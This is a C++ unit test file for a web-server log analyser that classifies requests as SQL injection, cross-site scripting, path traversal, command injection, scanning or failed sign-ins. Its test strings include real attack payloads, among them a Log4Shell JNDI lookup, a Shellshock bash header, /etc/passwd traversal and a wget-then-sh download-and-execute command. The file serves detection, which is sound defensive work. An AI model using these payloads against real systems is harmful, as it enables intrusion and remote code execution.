// SPDX-License-Identifier: MIT
#include "logs/detectors/attack.hpp"
#include "logs/detectors/server_error.hpp"
#include "support/catch.hpp"
#include "unit/logs/analysed.hpp"

#include <string>
#include <utility>
#include <vector>

namespace logs_attack_test {
namespace {

using analysed::access;
using analysed::analyse;
using analysed::find;
using logs::Attack;

Attack target(std::string_view text) {
    return logs::attack_in_target("GET", text);
}

} // namespace

TEST_CASE("what an attack needs is found under escapes, comments and letters of any size") {
    const std::vector<std::pair<std::string, Attack>> all{
        {"/art?id=1%27%20OR%20%271%27=%271", Attack::injection},
        {"/art?id=1+UnIoN/**/SeLeCt+1,2,3", Attack::injection},
        {"/art?id=-1%20union%20all%20select%20null--", Attack::injection},
        {"/art?id=1)%20and%203=3", Attack::injection},
        {"/art?id=1;%20waitfor%20delay%20'0:0:5'--", Attack::injection},
        {"/art?id=1%20AND%20SLEEP(5)", Attack::injection},
        {"/art?name=admin'--", Attack::injection},
        {"/art?q=%3Cscript%3Ealert(1)%3C/script%3E", Attack::script},
        {"/art?q=%253Cscript%253Ealert(1)", Attack::script},
        {"/art?q=\\x3Cimg src=x onerror=alert(1)>", Attack::script},
        {"/art?q=%22%3E%3Csvg/onload=confirm(1)%3E", Attack::script},
        {"/art/../../../../etc/passwd", Attack::traversal},
        {"/art?file=..%2f..%2f..%2fetc%2fpasswd", Attack::traversal},
        {"/art?file=%252e%252e%252fboot.ini", Attack::traversal},
        {"/art?page=../../conf", Attack::traversal},
        {"/scripts/..%5c..%5cwinnt/system32/cmd.exe?/c+dir", Attack::command},
        {"/art?file=/etc/passwd", Attack::traversal},
        {"/art?page=php://filter/convert.base64-encode/resource=index", Attack::traversal},
        {"/art?x=${jndi:ldap://x/a}", Attack::command},
        {"/cgi-bin/luci?cmd=$(id)", Attack::command},
        {"/shell?cd+/tmp;wget+http://198.51.100.7/x;sh+x", Attack::command},
        {"/index.php?s=/Index/\\think\\app/invokefunction", Attack::command},
        {"/art?x={{7*7}}", Attack::command},
        {"/wp-login.php", Attack::probe},
        {"/.env", Attack::probe},
        {"/.git/config", Attack::probe},
        {"http://example.org/", Attack::proxy},
    };
    for (const auto& [text, attack] : all) {
        INFO(text);
        CHECK(logs::name(target(text)) == logs::name(attack));
        if (logs::is_plain(attack)) CHECK_FALSE(logs::is_harmless(text));
    }
    CHECK(logs::attack_in_target("", "\\x16\\x03\\x01") == Attack::malformed);
    CHECK(logs::attack_in_target("", "-") == Attack::none);
}

TEST_CASE("what visitors ask for is no attack") {
    for (const std::string_view text :
         {"/",
          "/favicon.ico",
          "/art/17",
          "/art?sort=price&order=asc",
          "/art?q=black%20and%20white",
          "/art?q=cats+or+dogs",
          "/art?q=rock%27n%27roll",
          "/art?q=O%27Keeffe",
          "/art?q=%22blue+dog%22",
          "/art?q=select+a+frame",
          "/art?q=union+jack",
          "/art?q=drop+table+lamp",
          "/art?q=a%3Cb",
          "/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
          "/art?price=10-20",
          "/.well-known/acme-challenge/x",
          "/art?tags[]=blue&tags[]=red",
          "/art?next=%2Fcart%3Fid%3D7",
          "/login?return=https%3A%2F%2Fgallery.example%2Fcart",
          "/a/b/../c",
          "/art?q=100%25+wool",
          "/art?utm_source=news&utm_medium=e-mail",
          "/robots.txt",
          "/art/caf%C3%A9",
          "/art?q=(blue)"}) {
        INFO(text);
        CHECK(logs::name(target(text)) == "");
    }
    CHECK(logs::attack_in_header(
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
              "Gecko) Chrome/120.0 Safari/537.36")
          == Attack::none);
    CHECK(logs::attack_in_header("https://gallery.example/art?q=it%27s+blue") == Attack::none);
}

TEST_CASE("an agent can give a scanner away, and carry a command") {
    CHECK(logs::attack_in_header("sqlmap/1.7#stable (https://sqlmap.org)") == Attack::scanner);
    CHECK(logs::attack_in_header("Mozilla/5.00 (Nikto/2.5.0)") == Attack::scanner);
    CHECK(logs::attack_in_header("() { :;}; /bin/bash -c 'id'") != Attack::none);
    CHECK(logs::attack_in_header("<script>alert(1)</script>") == Attack::script);
    CHECK(logs::attack_in_header("x' or 1=1 -- ") == Attack::injection);
}

TEST_CASE("who attacks is named by the address of the connection, whatever the request says") {
    std::vector<std::string> lines;
    for (int i = 0; i < 30; ++i)
        lines.push_back(access("198.51.100.7", i,
                               "GET /art?id=" + std::to_string(i)
                                   + "%27%20or%201=1--&from=203.0.113.5 HTTP/1.1",
                               200));
    lines.push_back(access("192.0.2.1", 40, "GET /art?id=1 HTTP/1.1", 200));
    const auto summary = analyse(lines);
    REQUIRE(summary.suspects.size() == 1);
    CHECK(core::text_of(summary.suspects[0].address) == "198.51.100.7");
    CHECK(summary.suspects[0].kind == "web attack");
    CHECK(summary.suspects[0].reason == "30 × SQL injection");
    CHECK(find(summary, "logs.web-attacks.web-attacks").verdict == core::Verdict::warning);
}

TEST_CASE("the scanners of every day are listed, and no news") {
    std::vector<std::string> lines;
    for (const auto* path : {"/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config"})
        lines.push_back(access("198.51.100.7", 1, std::string{"GET "} + path + " HTTP/1.1", 404));
    lines.push_back(access("192.0.2.9", 2, "GET /favicon.ico HTTP/1.1", 404));
    lines.push_back(access("192.0.2.10", 3, "GET /wp-login.php HTTP/1.1", 404));
    lines.push_back(access("10.0.0.1", 3, "GET /?q=<script>alert(1)</script> HTTP/1.1", 404));
    const auto summary = analyse(lines);
    REQUIRE(summary.suspects.size() == 1);
    CHECK(summary.suspects[0].kind == "scanner");
    CHECK(find(summary, "logs.web-attacks.web-attacks").verdict == core::Verdict::ok);
}

TEST_CASE("who only asks for what is not there is a scanner; who follows some dead links is none") {
    std::vector<std::string> lines;
    for (int i = 0; i < 40; ++i) {
        lines.push_back(
            access("198.51.100.7", i, "GET /backup" + std::to_string(i) + " HTTP/1.1", 404));
        lines.push_back(access("192.0.2.9", i, "GET /art/" + std::to_string(i) + " HTTP/1.1", 200));
        lines.push_back(access("192.0.2.9", i, "GET /old/" + std::to_string(i) + " HTTP/1.1",
                               i % 3 == 0 ? 404 : 200));
    }
    const auto summary = analyse(lines);
    REQUIRE(summary.suspects.size() == 1);
    CHECK(core::text_of(summary.suspects[0].address) == "198.51.100.7");
}

TEST_CASE("a secret file that is handed out is a finding, one page for every address is none") {
    CHECK(find(analyse({access("192.0.2.7", 1, "GET /.env HTTP/1.1", 200)}),
               "logs.web-attacks.secret-files")
              .verdict
          == core::Verdict::warning);
    const auto one_page = analyse({access("192.0.2.1", 1, "GET / HTTP/1.1", 200),
                                   access("192.0.2.7", 1, "GET /.env HTTP/1.1", 200)});
    CHECK_FALSE(analysed::has(one_page, "logs.web-attacks.secret-files"));
}

TEST_CASE("an error of nginx is about the address that nginx wrote") {
    const auto client = [](std::string_view message) {
        return std::string{logs::client_of_nginx_error(message)};
    };
    CHECK(client("open() \"/html/x\" failed (2: No such file or directory), client: 192.0.2.7, "
                 "server: _, "
                 "request: \"GET /x HTTP/1.1\", host: \"h\"")
          == "192.0.2.7");
    CHECK(client("limiting requests, excess: 10.1 by zone \"one\", client: 192.0.2.7, server: _, "
                 "request: \"GET "
                 "/ HTTP/1.1\"")
          == "192.0.2.7");
    // Who forges another address makes it unknown at most, never somebody else's.
    CHECK(client("open() \"/html/a, client: 9.9.9.9, server: s\" failed (2: No such file or "
                 "directory), client: "
                 "192.0.2.7, server: _, request: \"GET /a,%20client:%209.9.9.9 HTTP/1.1\"")
              .empty());
    CHECK(client("client sent invalid method while reading client request line, client: 192.0.2.7, "
                 "server: _, "
                 "request: \"X, client: 9.9.9.9, server: s\"")
          == "192.0.2.7");
}

TEST_CASE("error logs of nginx and Apache name scanners, too") {
    std::vector<std::string> lines;
    for (const auto* path : {"/phpmyadmin/index.php", "/wp-login.php", "/.env"}) {
        lines.push_back("2026/02/01 10:00:01 [error] 7#7: *1 open() \"/html" + std::string{path}
                        + "\" failed (2: No such file or directory), client: 198.51.100.7, server: "
                          "_, request: \"GET "
                        + path + " HTTP/1.1\", host: \"h\"");
        lines.push_back("[Sun Feb 01 10:00:01.000001 2026] [core:error] [pid 7] [client "
                        "198.51.100.8:4711] AH00128: File "
                        "does not exist: /var/www/html"
                        + std::string{path});
    }
    lines.push_back("[Sun Feb 01 10:00:01 2026] [error] [client 192.0.2.9] File does not exist: "
                    "/var/www/html/favicon.ico");
    lines.push_back("[Sun Feb 01 10:00:01 2026] [error] [client 192.0.2.9] Directory index "
                    "forbidden by rule: /var/www/html/");
    const auto summary = analyse(lines);
    REQUIRE(summary.suspects.size() == 2);
    CHECK(core::text_of(summary.suspects[0].address) == "198.51.100.7");
    CHECK(core::text_of(summary.suspects[1].address) == "198.51.100.8");
}

TEST_CASE("basic authentication that fails is a failed sign-in") {
    std::vector<std::string> lines;
    for (int i = 0; i < 12; ++i) {
        lines.push_back("2026/02/01 10:00:01 [error] 7#7: *1 user \"admin\": password mismatch, "
                        "client: 198.51.100.7, "
                        "server: _, request: \"GET /admin HTTP/1.1\", host: \"h\"");
        lines.push_back("[Sun Feb 01 10:00:01.000001 2026] [auth_basic:error] [pid 7] [client "
                        "198.51.100.8:4711] AH01617: "
                        "user admin: authentication failure for \"/admin\": Password Mismatch");
        lines.push_back("198.51.100.9 - admin [01/Feb/2026:10:00:01 +0000] \"GET /admin HTTP/1.1\" "
                        "401 1 \"-\" \"x\"");
    }
    const auto summary = analyse(lines);
    REQUIRE(summary.suspects.size() == 3);
    for (const auto& suspect : summary.suspects)
        CHECK(suspect.kind == "sign-in");
}

} // namespace logs_attack_test
